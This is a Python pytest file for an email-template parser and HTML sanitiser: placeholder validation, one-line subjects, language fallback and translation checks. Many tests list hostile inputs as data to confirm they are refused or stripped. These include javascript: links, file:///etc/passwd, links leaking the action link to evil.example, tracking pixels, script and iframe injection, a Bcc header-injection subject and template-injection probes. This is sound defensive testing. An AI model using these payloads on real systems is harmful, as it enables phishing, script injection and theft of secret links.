import contextlib
import re
import time
from dataclasses import replace
from typing import Any

import pytest

from meterkeys.mail.kinds import KINDS, LetterKind, find_kind
from meterkeys.mail.layout import Page, clean, write_page
from meterkeys.mail.markup import LetterTextError
from meterkeys.mail.parts import HtmlWriter, TextWriter
from meterkeys.mail.texts import (
    FOLDER,
    LANGUAGES,
    LARGEST_BODY,
    LetterText,
    choose_language,
    find_placeholders,
    parse_text,
    read_notes,
    read_source,
    read_text,
)
from tests.mail.test_render import Outline

KIND = LetterKind("test", "Test", {"name": "Anna", "action_link": "https://meterkeys.example/"})
BUTTON = "[Open it]({{ action_link }})"
GOOD = f"""\
Hello {{{{name}}}},

First line
and second.

{BUTTON}
"""


def parse(body: str = GOOD, subject: str = "Subject for {{ name }}") -> LetterText:
    return parse_text(KIND, subject, body)


def refuse(**text: Any) -> LetterTextError:
    with pytest.raises(LetterTextError) as refusal:
        parse(**text)
    return refusal.value


def test_a_text_that_fits_its_kind_is_taken() -> None:
    assert parse().subject == "Subject for {{ name }}"


@pytest.mark.parametrize("field", ["subject", "body"])
def test_an_unknown_placeholder_is_named(field: str) -> None:
    error = refuse(**{field: "{{ password }}" + {"subject": "", "body": GOOD}[field]})
    assert error.code == "unknown_placeholder"
    assert error.field == field
    assert "password" in str(error)


@pytest.mark.parametrize(
    "trick", ["name.__class__", "name|safe", "name()", "NAME", "", "name }} {{ pin", "na me"]
)
def test_a_placeholder_is_a_bare_name(trick: str) -> None:
    assert refuse(body=GOOD.replace("second", "{{ " + trick + " }}")).code == "unknown_placeholder"


def test_a_missing_required_placeholder_is_named() -> None:
    error = refuse(body=GOOD.replace(BUTTON, "Open it"))
    assert error.code == "missing_placeholder"
    assert "action_link" in str(error)


@pytest.mark.parametrize("half", ["{{ name", "name }}", "{{ na\nme }}", "{% if name %}{{"])
def test_half_a_placeholder_is_refused(half: str) -> None:
    assert refuse(body=GOOD.replace("second", half)).code in {"half_placeholder", "unknown_placeholder"}


@pytest.mark.parametrize(
    "body",
    [
        f"{GOOD}\n{BUTTON}\n",
        GOOD.replace(BUTTON, "Open [it]({{ action_link }}) now"),
        GOOD + "\nOr open [it]({{ action_link }}) here",
        GOOD + "\nOr open [it](action:link) here",
        GOOD.replace(BUTTON, f"- {BUTTON}"),
        GOOD.replace(BUTTON, f"\\{BUTTON}"),
    ],
)
def test_a_letter_has_exactly_one_button_on_a_line_of_its_own(body: str) -> None:
    assert refuse(body=body).code == "button"


@pytest.mark.parametrize(
    "subject", ["", "   ", "a\r\nBcc: eve@evil.example", "a\nb", "a\x00b", "a\u2028b", "x" * 201]
)
def test_a_subject_is_one_line(subject: str) -> None:
    error = refuse(subject=subject)
    assert (error.code, error.field) == ("subject", "subject")


def test_the_link_stays_out_of_the_subject_which_is_kept_when_the_letter_is_wiped() -> None:
    assert refuse(subject="See {{ action_link }}").code == "link_in_subject"


@pytest.mark.parametrize(
    ("asked", "chosen"),
    [
        ("fr", "fr"),
        ("fr-CA", "fr"),
        ("en", "en"),
        ("tlh", "en"),
        ("", "en"),
        ("../en", "en"),
        ("de-AT", "de"),
    ],
)
def test_a_language_without_texts_gets_its_main_one_or_english(asked: str, chosen: str) -> None:
    assert choose_language(asked) == chosen


def test_an_unknown_kind_is_refused() -> None:
    with pytest.raises(ValueError, match="no letter kind 'gossip'"):
        find_kind("gossip")


@pytest.mark.parametrize("language", LANGUAGES)
@pytest.mark.parametrize("kind", KINDS)
def test_every_kind_has_a_text_in_every_language_that_uses_each_placeholder(kind: str, language: str) -> None:
    read_text(kind, language)
    source = read_source(kind, language)
    assert set(find_placeholders(source.subject + source.body)) == set(KINDS[kind].samples)


@pytest.mark.parametrize("kind", KINDS)
def test_the_texts_of_a_kind_differ_from_language_to_language(kind: str) -> None:
    sources = {read_source(kind, language) for language in LANGUAGES}
    assert len({source.subject for source in sources}) == len(LANGUAGES)
    assert len({source.body.count("\n") for source in sources}) == 1, "each says the same, block for block"


@pytest.mark.parametrize("language", LANGUAGES)
def test_every_language_has_the_notes_of_the_layout(language: str) -> None:
    notes = read_notes(language)
    assert notes.before_link
    assert notes.automatic


def test_no_file_lies_among_the_letters_that_no_kind_uses() -> None:
    expected = {f"{language}/{name}.md" for language in LANGUAGES for name in [*KINDS, "notes"]}
    assert {path.relative_to(FOLDER).as_posix() for path in FOLDER.rglob("*") if path.is_file()} == expected


@pytest.mark.parametrize(
    ("language", "words"),
    [
        ("fr", ["Référence du lot", "Réclamez", "appareils", "Étiquette", "Bonjour"]),
        ("de", ["Chargenreferenz", "Geräte", "Schlüssel", "Guten Tag"]),
        ("es", ["Referencia del lote", "dispositivos", "claves", "Hola"]),
        ("it", ["Riferimento del lotto", "dispositivi", "chiavi", "Buongiorno"]),
        ("sv", ["Partireferens", "enheter", "nycklar", "Hej"]),
    ],
)
def test_the_letters_use_the_words_that_users_know(language: str, words: list[str]) -> None:
    source = read_source("new_batch", language)
    assert [word for word in words if word not in source.subject + source.body] == []


ATTACKS = {
    "script address": ("[x](javascript:alert(1))", "link"),
    "script address in capitals": ("[x](JaVaScRiPt:alert(1))", "link"),
    "script address behind a tab": ("[x](java&Tab;script:alert(1))", "link"),
    "data address": ("[x](data:text/html;base64,PHNjcmlwdD4=)", "link"),
    "visual basic": ("[x](vbscript:msgbox(1))", "link"),
    "file": ("[x](file:///etc/passwd)", "link"),
    "page without encryption": ("[x](http://evil.example/)", "link"),
    "page of this site": ("[x](/profile/)", "link"),
    "page of the same protocol": ("[x](//evil.example/)", "link"),
    "name before the host": ("[x](https://meterkeys.example@evil.example/)", "link"),
    "secret to a foreign host": ("[x](https://evil.example/?{{action_link}})", "link"),
    "secret to a foreign host, in brackets": ("[x](<https://evil.example/?{{ action_link }}>)", "link"),
    "secret in a mail": ("[x](<mailto:eve@evil.example?body={{ action_link }}>)", "link"),
    "secret in a title": ("[x](https://evil.example/ '{{ action_link }}')", "link_in_words"),
    "secret behind an address": ("https://evil.example/?t={{ action_link }}", "link_in_words"),
    "secret behind an address, set apart": ("https://evil.example/?t=**{{action_link}}**", "link_in_words"),
    "secret behind an address, in a list": ("- https://evil.example/{{ action_link }}", "link_in_words"),
    "secret behind an address, in a heading": ("# https://evil.example/{{ action_link }}", "link_in_words"),
    "secret behind an address, quoted": ("> https://evil.example/{{ action_link }}", "link_in_words"),
    "secret before an address": ("{{ action_link }}@evil.example", "link_in_words"),
    "secret in the words of a link": ("[{{ action_link }}](https://evil.example/)", "link_in_words"),
    "secret in the words of a button": (
        "[https://evil.example/{{ action_link }}]({{ action_link }})",
        "link_in_words",
    ),
    "secret as a link with a title": ("https://evil.example/[x]({{ action_link }} 'x')", "link_in_words"),
    "secret as a line of its own": ("{{ action_link }}", "link_in_words"),
    "secret behind an address, as a link": ("https://evil.example/?t=[]({{ action_link }})", "button"),
    "secret behind an address, by its inner name": ("https://evil.example/?t=[](action:link)", "button"),
    "half a secret": ("[x](https://evil.example/%7B%7Baction_link%7D%7D)", "link"),
    "remote image": ("![x](https://evil.example/pixel.gif)", "image"),
    "remote image in a link": ("[![x](https://evil.example/p.gif)](https://evil.example/)", "image"),
    "image with a placeholder": ("![x](<https://evil.example/{{ name }}.gif>)", "image"),
    "image as HTML": ("<img src=https://evil.example/p.gif>", ""),
    "script": ("<script>alert(1)</script>", ""),
    "style": ("<style>@import 'https://evil.example/'</style>", ""),
    "form": ("<form action=https://evil.example/><input name=password>", ""),
    "reference": ("[x]\n\n[x]: javascript:alert(1)", ""),
    "automatic link": ("<javascript:alert(1)>", ""),
    "code": ("```\n<script>alert(1)</script>\n```", ""),
    "comment": ("<!-- --><script>alert(1)</script>", ""),
    "entity": ("&lt;script&gt;", ""),
    "turned writing": ("\u202egnp.exe", ""),
    "template": ("{% load x %}{# #}${7*7}<%= 7 %>", ""),
}


@pytest.mark.parametrize("attack", [name for name, (_text, code) in ATTACKS.items() if code])
def test_an_attack_is_refused_at_saving(attack: str) -> None:
    text, code = ATTACKS[attack]
    error = refuse(body=f"{text}\n\n{BUTTON}")
    assert (error.code, error.field) == (code, "body")


@pytest.mark.parametrize("attack", [name for name, (_text, code) in ATTACKS.items() if not code])
def test_an_attack_that_is_taken_stays_words(attack: str) -> None:
    source, _code = ATTACKS[attack]
    words = {"name": "Anna", "action_link": "https://meterkeys.example/"}
    written = clean(HtmlWriter(words).write(parse(body=f"{source}\n\n{BUTTON}").body))
    outline = Outline(written)
    assert {tag for tag, _attributes in outline.elements} <= {"p", "br", "a", "table", "tbody", "tr", "td"}
    addresses = [link["href"] for link in outline.find("a")]
    assert set(addresses) <= {words["action_link"], "https://evil.example/"}
    assert not re.search("[\u202a-\u202e]", written)


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("mark", ["", "**", "- ", "> ", "# "])
def test_in_no_kind_does_the_text_lead_the_link_elsewhere(kind: str, mark: str) -> None:
    body = f"{mark}https://evil.example/?t={{{{ action_link }}}}\n\n{BUTTON}"
    with pytest.raises(LetterTextError, match="button and nowhere else"):
        parse_text(find_kind(kind), "Subject", body)


def test_words_that_only_look_like_the_link_are_not_filled_in() -> None:
    body = f"https://evil.example/?t=\\]({{{{ action_link }}}}) https://evil.example/\\{{ action_link }}\n\n{BUTTON}"
    words = {"name": "Anna", "action_link": "https://meterkeys.example/secret"}
    text = parse(body=body)
    for written in (HtmlWriter(words).write(text.body), TextWriter(words).write(text.body)):
        assert written.count("meterkeys.example") == 1


@pytest.mark.parametrize(
    "html",
    [
        "<script>x</script>",
        "<p onclick='x'>x</p>",
        "<a href='javascript:x'>x</a>",
        "<a href='/profile/'>x</a>",
        "<a href='ftp://evil.example/'>x</a>",
        "<img src='https://evil.example/p.gif'>",
        "<p style='background: url(https://evil.example/)'>x</p>",
        "<p class='brand' id='x'>x</p>",
        "<link rel=stylesheet href='https://evil.example/'>",
        "<iframe src='https://evil.example/'></iframe><svg onload=x><math><mi xlink:href='data:x'>",
    ],
)
def test_what_the_writer_never_makes_is_removed_behind_it(html: str) -> None:
    page = Page("en", "", "", html, "https://meterkeys.example/", "", "", ())
    plain = {tag for tag, _attributes in Outline(write_page(replace(page, blocks="<p>x</p>"))).elements}
    assert {tag for tag, _attributes in Outline(write_page(page)).elements} <= plain
    for forbidden in [
        "script",
        "evil",
        "onclick",
        "onload",
        "style",
        "class",
        "id=",
        "href",
        "svg",
        "iframe",
    ]:
        assert forbidden not in clean(html)


@pytest.mark.parametrize("size", [LARGEST_BODY, LARGEST_BODY + 1])
def test_a_text_is_at_most_64_kb_large(size: int) -> None:
    body = f"{BUTTON}\n\n"
    body += "é" * ((size - len(body)) // 2) + "x" * ((size - len(body)) % 2)
    if size > LARGEST_BODY:
        assert refuse(body=body).code == "too_large"
    else:
        parse(body=body)


@pytest.mark.parametrize(
    "piece",
    ["[", "![", "*a", "> ", "- ", "{{ name }}", "[a](", "**_", "\\", "<", "{", "1. ", "# ", "[x](b)\n"],
)
def test_no_text_keeps_the_parser_busy(piece: str) -> None:
    start = time.process_time()
    with contextlib.suppress(LetterTextError):
        text = parse(body=piece * ((LARGEST_BODY - 100) // len(piece)) + f"\n\n{BUTTON}")
        words = {"name": "x" * 100, "action_link": "https://meterkeys.example/"}
        clean(HtmlWriter(words).write(text.body) + TextWriter(words).write(text.body))
    assert time.process_time() - start < 5
